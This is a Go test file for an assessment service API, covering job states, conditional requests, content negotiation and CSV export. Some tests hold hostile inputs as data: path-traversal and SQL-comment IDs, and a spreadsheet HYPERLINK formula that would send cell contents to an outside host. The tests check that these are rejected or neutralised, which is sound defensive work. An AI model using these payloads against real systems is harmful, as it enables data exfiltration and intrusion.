package api_test

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"net/http"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"laidup/internal/access"
	"laidup/internal/assess"
	"laidup/internal/score"
)

func TestAnAssessmentOnItsWay(t *testing.T) {
	t.Parallel()
	w := open(t)
	w.queue.holiday.Store(true)
	id := w.accept("tern-01")
	at := "/v1/assessments/" + id
	for _, state := range []string{"queued", "running"} {
		if state == "running" {
			if _, err := w.store.Start(t.Context(), id); err != nil {
				t.Fatal(err)
			}
		}
		a := w.get(at)
		a.is(t, http.StatusOK)
		a.has(t, "Retry-After", "1", "Cache-Control", "private, no-cache")
		body := a.object(t)
		if body["state"] != state || body["id"] != id || body["vehicle"] != "tern-01" || body["gate"] != "first_start" || body["schema"] != "laidup.assessment/2" {
			t.Errorf("answer %s", a.text)
		}
		for _, part := range []string{"/register", "/blockers"} {
			a := w.get(at+part, "Accept: text/csv")
			a.problem(t, http.StatusConflict, "not-finished", state)
			a.has(t, "Retry-After", "1")
		}
	}
	w.queue.work()
	a := w.get(at)
	a.has(t, "Retry-After", "")
	if state := a.object(t)["state"]; state != "done" {
		t.Errorf("state %v", state)
	}
}

func TestAFinishedAssessmentIsServedAsStored(t *testing.T) {
	t.Parallel()
	w := open(t)
	id := w.assess("tern-01")
	stored, err := w.service.For(access.Workshop).Assessment(t.Context(), id)
	if err != nil {
		t.Fatal(err)
	}
	a := w.get("/v1/assessments/" + id)
	a.is(t, http.StatusOK)
	a.has(t, "Content-Type", "application/json", "Content-Length", strconv.Itoa(len(stored.Outcome.Body)))
	if !bytes.Equal(a.text, stored.Outcome.Body) {
		t.Error("the body is not what was stored")
	}
}

func TestAFailedAssessment(t *testing.T) {
	t.Parallel()
	w := open(t)
	w.queue.holiday.Store(true)
	id := w.accept("tern-01")
	if err := w.store.Fail(t.Context(), id, []byte(`{"title":"Rule set gone","detail":"first-start 0.9.0 is gone"}`), time.Now()); err != nil {
		t.Fatal(err)
	}
	a := w.get("/v1/assessments/" + id)
	a.is(t, http.StatusOK)
	a.has(t, "Retry-After", "")
	body := a.object(t)
	if body["state"] != "failed" || body["problem"].(object)["detail"] != "first-start 0.9.0 is gone" || body["finished_at"] == nil {
		t.Errorf("answer %s", a.text)
	}
	b := w.get("/v1/assessments/" + id + "/blockers")
	b.problem(t, http.StatusConflict, "assessment-failed", "first-start 0.9.0 is gone")
	b.has(t, "Retry-After", "")
}

func TestNoSuchAssessment(t *testing.T) {
	t.Parallel()
	w := open(t)
	for _, id := range []string{"no", "%00", "a%2Fb", "%2e%2e", "a%20b", strings.Repeat("x", 101), "%F0%9F%9A%97", "a';--"} {
		for _, part := range []string{"", "/register", "/blockers"} {
			w.get("/v1/assessments/"+id+part).problem(t, http.StatusNotFound, "not-found")
		}
	}
	w.get("/v1/assessments//register").problem(t, http.StatusNotFound, "not-found")
}

func TestAnAssessmentThatCannotBeRead(t *testing.T) {
	t.Parallel()
	w := open(t)
	w.queue.holiday.Store(true)
	done, failed := w.accept("tern-01"), w.accept("tern-01")
	if err := w.store.Finish(t.Context(), done, assess.Outcome{Body: []byte("{secret")}, time.Now()); err != nil {
		t.Fatal(err)
	}
	if err := w.store.Fail(t.Context(), failed, []byte("{secret"), time.Now()); err != nil {
		t.Fatal(err)
	}
	for _, path := range []string{"/v1/assessments/" + done + "/register", "/v1/assessments/" + failed + "/blockers", "/v1/assessments/" + failed, "/v1/vehicles/tern-01/readiness"} {
		a := w.get(path)
		a.problem(t, http.StatusInternalServerError, "internal-error")
		if bytes.Contains(a.text, []byte("secret")) {
			t.Errorf("the client is told %s", a.text)
		}
	}
}

func TestConditionalRequests(t *testing.T) {
	t.Parallel()
	w := open(t)
	id := w.assess("tern-01")
	for _, path := range []string{
		"/v1/assessments/" + id, "/v1/assessments/" + id + "/register", "/v1/assessments/" + id + "/blockers?format=csv", "/v1/vehicles",
		"/v1/vehicles/tern-01", "/v1/vehicles/tern-01/readiness", "/v1/catalogue", "/v1/schemas/report", "/v1/rule_sets", "/v1/rule_sets/first-start/2.0.0",
	} {
		t.Run(path, func(t *testing.T) {
			first := w.get(path)
			first.is(t, http.StatusOK)
			tag := first.Header.Get("ETag")
			if len(tag) < 10 || tag[0] != '"' {
				t.Fatalf("the tag is %s", tag)
			}
			for match, status := range map[string]int{
				tag: 304, "W/" + tag: 304, "*": 304, `"a", ` + tag + `, "b"`: 304,
				`"other"`: 200, strings.Trim(tag, `"`): 200, "": 200,
			} {
				a := w.get(path, "If-None-Match: "+match)
				a.is(t, status)
				a.has(t, "ETag", tag, "Cache-Control", first.Header.Get("Cache-Control"))
				if status == http.StatusNotModified && (len(a.text) > 0 || a.Header.Get("Content-Type") != "") {
					t.Errorf("not modified, and yet: %.100s", a.text)
				}
			}
		})
	}
	t.Run("a tag changes with the content", func(t *testing.T) {
		before := w.get("/v1/vehicles/tern-01").Header.Get("ETag")
		w.assess("tern-01")
		w.get("/v1/vehicles/tern-01", "If-None-Match: "+before).is(t, http.StatusOK)
	})
	t.Run("a tag differs between forms", func(t *testing.T) {
		at := "/v1/assessments/" + id + "/register"
		if w.get(at).Header.Get("ETag") == w.get(at+"?format=csv").Header.Get("ETag") {
			t.Error("it does not")
		}
	})
}

func TestTheRegister(t *testing.T) {
	t.Parallel()
	w := open(t)
	id := w.assess("tern-01")
	var whole score.Assessment
	w.get("/v1/assessments/"+id).into(t, &whole)

	a := w.get("/v1/assessments/" + id + "/register")
	a.is(t, http.StatusOK)
	a.has(t, "Content-Type", "application/json", "Vary", "Accept")
	var body struct {
		Assessment, Vehicle string
		Register            []score.Entry
	}
	a.into(t, &body)
	if body.Assessment != id || body.Vehicle != "tern-01" || len(body.Register) == 0 || len(body.Register) != len(whole.Register) {
		t.Errorf("%d entries of %s", len(body.Register), body.Vehicle)
	}

	a = w.get("/v1/assessments/"+id+"/register", "Accept: text/csv")
	a.is(t, http.StatusOK)
	a.has(t, "Content-Type", "text/csv; charset=utf-8; header=present", "Vary", "Accept", "Content-Disposition", `attachment; filename="register-`+id+`.csv"`)
	lines, err := csv.NewReader(bytes.NewReader(a.text)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(lines) != len(whole.Register)+1 || lines[0][0] != "rank" {
		t.Fatalf("%d lines, the first %v", len(lines), lines[0])
	}
	column := func(name string) int { return slices.Index(lines[0], name) }
	for i, e := range whole.Register {
		first := e.Causes[0]
		total, _ := json.Marshal(first.TotalDB)
		low, _ := json.Marshal(e.Low)
		got := lines[i+1]
		if got[column("hazard")] != e.Hazard || got[column("low")] != string(low) || !strings.HasPrefix(got[column("causes")], first.Fault) ||
			!strings.Contains(got[column("ledgers")], "together "+string(total)+" dB") {
			t.Errorf("line %d: %v", i+1, got)
		}
	}
}

func TestBlockersByGate(t *testing.T) {
	t.Parallel()
	w := open(t)
	id := w.assess("tern-01")
	var whole score.Assessment
	w.get("/v1/assessments/"+id).into(t, &whole)
	for _, g := range whole.Gates {
		a := w.get("/v1/assessments/" + id + "/blockers?gate=" + g.Gate)
		a.is(t, http.StatusOK)
		var body struct {
			Gate, State string
			Blockers    []score.Blocker
		}
		a.into(t, &body)
		if body.Gate != g.Gate || body.State != g.State || body.Blockers == nil || len(body.Blockers) != g.Blockers {
			t.Errorf("%s: %.300s", g.Gate, a.text)
		}
		lines, err := csv.NewReader(bytes.NewReader(w.get("/v1/assessments/" + id + "/blockers?format=csv&gate=" + g.Gate).text)).ReadAll()
		if err != nil || len(lines) != g.Blockers+1 {
			t.Errorf("%s: %d lines, %v", g.Gate, len(lines), err)
		}
	}
	if gate := w.get("/v1/assessments/" + id + "/blockers").object(t)["gate"]; gate != whole.Verdict.Gate {
		t.Errorf("without a gate it is about %v", gate)
	}
	w.get("/v1/assessments/"+id+"/blockers?gate=launch").problem(t, http.StatusBadRequest, "no-such-gate", "crank", "first_start")
}

func TestFormsOfATable(t *testing.T) {
	t.Parallel()
	w := open(t)
	at := "/v1/assessments/" + w.assess("tern-01") + "/register"
	for name, c := range map[string]struct{ path, accept, want string }{
		"no wish":                    {at, "", "application/json"},
		"anything":                   {at, "*/*", "application/json"},
		"CSV by name":                {at, "text/csv", "text/csv"},
		"any text":                   {at, "text/*", "text/csv"},
		"CSV rather than JSON":       {at, "application/json;q=0.5, text/csv", "text/csv"},
		"JSON rather than CSV":       {at, "text/csv;q=0.5, application/json;q=0.6", "application/json"},
		"anything but JSON":          {at, "*/*, application/json;q=0", "text/csv"},
		"a browser":                  {at, "text/html,application/xhtml+xml,*/*;q=0.8", "application/json"},
		"a page only":                {at, "text/html", ""},
		"neither":                    {at, "application/json;q=0, text/csv;q=0.0", ""},
		"the parameter":              {at + "?format=csv", "application/json", "text/csv"},
		"the parameter, other way":   {at + "?format=json", "text/csv", "application/json"},
		"a page where JSON is all":   {"/v1/catalogue", "text/html", ""},
		"CSV where JSON is all":      {"/v1/vehicles", "text/csv", ""},
		"a schema as such":           {"/v1/schemas/report", "", "application/schema+json"},
		"a schema as any other JSON": {"/v1/schemas/report", "application/json", "application/json"},
	} {
		t.Run(name, func(t *testing.T) {
			a := w.get(c.path, "Accept: "+c.accept)
			if c.want == "" {
				a.problem(t, http.StatusNotAcceptable, "not-acceptable", "application/json")
				return
			}
			a.is(t, http.StatusOK)
			if got, _, _ := strings.Cut(a.Header.Get("Content-Type"), ";"); got != c.want {
				t.Errorf("the answer is %s, want %s", got, c.want)
			}
		})
	}
	w.get(at+"?format=xlsx").problem(t, http.StatusBadRequest, "bad-query", "xlsx", "json, csv")
	w.get("/v1/vehicles?format=json").problem(t, http.StatusBadRequest, "bad-query", "format")
}

func TestFormulasInTablesAreWords(t *testing.T) {
	t.Parallel()
	w := open(t)
	w.queue.holiday.Store(true)
	id := w.accept("tern-01")
	evil := `=HYPERLINK("http://example.com?"&A1,"click")`
	body, err := json.Marshal(score.Assessment{
		ID: id, State: "done", Verdict: score.Verdict{Gate: "crank"}, Gates: []score.Gate{{Gate: "crank", Blockers: 1}},
		Blockers: []score.Blocker{{Gate: "crank", Because: evil, Cautions: []string{"@SUM(A1)"}, Rules: []string{"-2+3"}}},
	})
	if err != nil {
		t.Fatal(err)
	}
	if err := w.store.Finish(t.Context(), id, assess.Outcome{Body: body}, time.Now()); err != nil {
		t.Fatal(err)
	}
	lines, err := csv.NewReader(bytes.NewReader(w.get("/v1/assessments/" + id + "/blockers?format=csv").text)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{"'" + evil, "'@SUM(A1)", "'-2+3"} {
		if !slices.Contains(lines[1], want) {
			t.Errorf("no %s in %q", want, lines[1])
		}
	}
}
